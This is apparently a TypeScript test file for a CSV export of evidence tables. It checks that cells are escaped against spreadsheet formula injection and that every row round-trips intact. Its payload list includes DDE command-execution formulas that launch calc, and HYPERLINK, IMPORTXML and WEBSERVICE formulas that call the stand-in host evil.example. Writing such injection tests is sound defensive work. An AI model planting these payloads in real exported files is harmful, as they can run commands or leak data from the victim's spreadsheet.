import assert from "node:assert/strict";
import { test } from "node:test";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import type { EvidenceCell, EvidenceColumn } from "#schemas/evidence-table";
import { escapeText } from "#services/core/text/escape-text";
import { renderTableCsv } from "#services/reports/evidence/render-table-csv";
import { HOSTILE_TEXTS } from "#test/fakes/hostile-texts";
import { runsOf } from "#test/fakes/runs-of";

const COLUMNS: readonly EvidenceColumn[] = [
  { key: "item", heading: "Item", kind: "text" },
  { key: "age", heading: "Hours", kind: "hours" },
  { key: "held", heading: "Held", kind: "yes-no" },
];

/** What somebody could type as a name, so that a spreadsheet acts on it. */
const FORMULAS = [
  "=1+1",
  "+1",
  "-1+1",
  "@SUM(A1)",
  "=cmd|' /C calc'!A0",
  '"=1+1"',
  '  "=1+1',
  " =1+1",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "−1",
  "|calc",
  "%0A=1",
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  "'=1+1",
  '=DDE("cmd";"/C calc";"x")',
];

function csvOf(rows: readonly Record<string, EvidenceCell>[]): string {
  return renderTableCsv({ columns: [...COLUMNS], rows: [...rows] });
}

function read(csv: string): readonly (readonly string[])[] {
  return parse(csv, { bom: true, relax_quotes: false });
}

function withoutGuard(text: string): string {
  return text.startsWith("'") ? text.slice(1) : text;
}

test("begins with a byte order mark, and each line ends as RFC 4180 says", () => {
  const csv = csvOf([{ item: "Zoë’s feed", age: 3, held: true }]);
  assert.equal(csv, "\ufeffitem,age,held\r\nZoë’s feed,3,yes\r\n");
});

test("a number below zero stays a number, and what there is none of stays empty", () => {
  assert.equal(csvOf([{ item: null, age: -2.5, held: false }]), "\ufeffitem,age,held\r\n,-2.5,no\r\n");
});

for (const formula of [...FORMULAS, ...HOSTILE_TEXTS]) {
  test(`is text in any spreadsheet, and can be read back: ${JSON.stringify(formula)}`, () => {
    const [, row = []] = read(csvOf([{ item: formula, age: null, held: null }]));
    assert.doesNotMatch(row[0] ?? "", /^[\s"]*[=+\-@|%＝＋－＠−]/u);
    assert.equal(withoutGuard(row[0] ?? ""), escapeText(formula));
  });
}

test("whatever the texts are, each row is one line, and every cell comes back", () => {
  const cell = fc.oneof(
    fc.string({ unit: "binary" }),
    fc.string(),
    fc.constantFrom(...FORMULAS, '"', ",", "\r\n", "'"),
  );
  fc.assert(
    fc.property(fc.array(cell, { minLength: 1, maxLength: 8 }), (texts) => {
      const csv = csvOf(texts.map((item) => ({ item, age: 1, held: null })));
      assert.equal(csv.split("\r\n").length, texts.length + 2);
      assert.doesNotMatch(csv.replaceAll("\r\n", ""), /[\r\n]/);
      const [, ...rows] = read(csv);
      assert.deepEqual(
        rows.map(([item = ""]) => withoutGuard(item)),
        texts.map((text) => escapeText(text)),
      );
    }),
    runsOf(300),
  );
});
